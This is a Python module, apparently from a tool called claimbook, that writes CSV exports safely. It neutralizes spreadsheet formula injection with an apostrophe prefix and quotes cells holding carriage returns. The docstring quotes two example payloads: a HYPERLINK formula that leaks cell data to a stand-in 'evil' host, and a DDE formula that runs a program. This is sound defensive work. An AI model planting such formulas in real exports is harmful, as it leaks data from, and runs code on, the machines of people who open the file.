"""CSV that spreadsheets and readers take as it is: formulas made inert, line breaks quoted.

Claim text, claimant names and quotes come from sources nobody controls. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before looking)
is read by Excel, LibreOffice and Google Sheets as a formula — `=HYPERLINK("https://evil/?"&A1)`
leaks data, `=cmd|'/c calc'!A0` ran programs in old Excel. Following the OWASP guidance on CSV
injection, every such cell is prefixed with an apostrophe: the spreadsheet then shows the text,
and a reader of the CSV sees one extra character at the start of those cells only.

Use `neutralize_formulas(df)` on every table written as CSV for people to open (`claimbook
claims --format csv`, exports). Tables claimbook reads back itself (claims.csv) are not passed
through it: they hold the analyst's own text, and it would change the stored value.

`writer(f, ...)` / `DictWriter` fix a quirk of Python's csv writer (3.11): with lines ending in
"\n" it leaves a cell holding a bare carriage return ("a\rb") unquoted, and every reader —
pandas, the csv module, spreadsheets — then splits the row there. A row with such a cell is
written with every cell quoted; all other rows stay minimally quoted, byte for byte as before.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_cell(value: Any) -> Any:
    """`'=1+1` for `=1+1`; any other value (numbers, missing values, plain text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralize_reversibly(value: str) -> str:
    """`neutralize_cell` for a file claimbook reads back (the review file): a value that already
    starts with an apostrophe and a formula character gets one more, so `restore_cell` gives
    back exactly the value written."""
    if value.startswith(FORMULA_STARTS) or (value.startswith("'") and _restorable(value)):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """The value `neutralize_reversibly` was given (an apostrophe a spreadsheet kept is dropped)."""
    return value[1:] if _restorable(value) else value


def _restorable(value: str) -> bool:
    rest = value[1:]
    return value.startswith("'") and (rest.startswith(FORMULA_STARTS)
                                      or (rest.startswith("'") and _restorable(rest)))


def neutralize_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` in which every text cell a spreadsheet would evaluate is plain text.

    Only text cells change (numbers such as -3 stay numbers: a spreadsheet reads them as the
    number they are); column names are neutralized too, since they become the header row.
    """
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s) or isinstance(
                s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(neutralize_cell)
    out.columns = [neutralize_cell(c) for c in out.columns]
    return out


def _needs_quotes(values: Iterable[Any]) -> bool:
    return any(isinstance(v, str) and "\r" in v for v in values)


class _Writer:
    """csv.writer with QUOTE_MINIMAL, except rows holding a carriage return: QUOTE_ALL."""

    def __init__(self, f: Any, **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\n")
        self._minimal = csv.writer(f, quoting=csv.QUOTE_MINIMAL, **kwargs)
        self._all = csv.writer(f, quoting=csv.QUOTE_ALL, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        row = list(row)
        return (self._all if _needs_quotes(row) else self._minimal).writerow(row)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **kwargs: Any) -> _Writer:
    """Like `csv.writer(f, lineterminator="\n")`, and a cell with a carriage return survives."""
    return _Writer(f, **kwargs)


class DictWriter(csv.DictWriter):
    """Like `csv.DictWriter(f, fieldnames, lineterminator="\n")`, with `writer`'s quoting."""

    def __init__(self, f: Any, fieldnames: list[str], **kwargs: Any) -> None:
        extras = {k: kwargs.pop(k) for k in ("restval", "extrasaction") if k in kwargs}
        super().__init__(f, fieldnames, **extras)
        self.writer = _Writer(f, **kwargs)  # csv.DictWriter writes through self.writer


def to_csv_text(df: Any) -> str:
    """A DataFrame as CSV text (no index, "\n" lines) that reads back into the same cells."""
    import io

    buf = io.StringIO()
    w = writer(buf)
    w.writerow([str(c) for c in df.columns])
    w.writerows(["" if _missing(v) else v for v in row]
                for row in df.itertuples(index=False, name=None))
    return buf.getvalue()


def _missing(v: Any) -> bool:
    import pandas as pd

    try:
        return bool(pd.isna(v))
    except (TypeError, ValueError):
        return False

